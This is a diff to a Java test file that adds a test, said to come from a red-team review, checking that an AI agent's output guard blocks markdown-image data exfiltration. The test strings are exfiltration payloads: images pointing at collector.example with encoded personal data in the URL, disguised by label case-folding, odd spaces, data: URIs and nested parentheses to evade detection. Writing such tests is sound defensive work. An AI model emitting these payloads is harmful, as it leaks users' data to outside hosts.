@@ -690,6 +690,35 @@ class AgentPresetTest {
     }
 
     @Test
+    void labelsMatchAsRenderersMatchThemAndDestinationsNestParentheses() {
+        // found by a fourth red-team review: a definition whose label a renderer matches to a released image's label
+        // but the guard did not (case folding, no-break spaces) passed; a data: image let an open <img> after it out
+        // past the hold; an escaped or nested ')' made an open image look closed (and nested ones ended the URL for
+        // the detector too)
+        String d = "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ";
+        String u = "https://collector.example/p.png?d=" + d;
+        String p = "The quarterly numbers look steady and the team is on track for the launch. ".repeat(70);
+        for (String answer : List.of(
+                "See ![map][Straße].\nNote [Straße]: -\n\n" + p.substring(0, 600) + "\n\n[STRASSE]: " + u + "\n",
+                "See ![chart][x].\n\n" + p.substring(0, 4800) + "\n\n[x\u00A0]: " + u + "\n",
+                "See ![chart][a b].\n\n" + p.substring(0, 4800) + "\n\n[a\u2003b]: " + u + "\n",
+                "Intro. ![d](data:image/png;base64,iVBORw0KGgo <img alt=\"" + p.substring(0, 4200) + "\" src=\"" + u
+                        + "\"> done",
+                "See ![c](https://collector.example/p.png?x=\\)&" + "a=1&".repeat(100) + "d=" + d + ") ok\n\n"
+                        + p.substring(0, 300),
+                "See ![c](https://collector.example/p.png?x=(1)&" + "a=1&".repeat(100) + "d=" + d + ") ok\n\n"
+                        + p.substring(0, 300),
+                "See ![c](https://collector.example/p.png?x=(1)&d=" + d + ") ok")) {
+            assertAnswerBlockedAsExfiltration(answer);
+            for (int size : new int[] {1, 2, 4, 5, 8, 13, 16, 32, 64}) {
+                assertThat(stream(answer, size).blocked())
+                        .as("%s in chunks of %d", answer.substring(0, 30), size)
+                        .isNotNull();
+            }
+        }
+    }
+
+    @Test
     void afterAReleasedReferenceImageCodeFullOfLabelsIsNotJudgedAgainAtEveryRelease() {
         // once a reference image was released, every release judged the remembered text again (60 times the work of
         // the stream for typed Python, whose "]:" looked like definitions); now only a definition of a released label
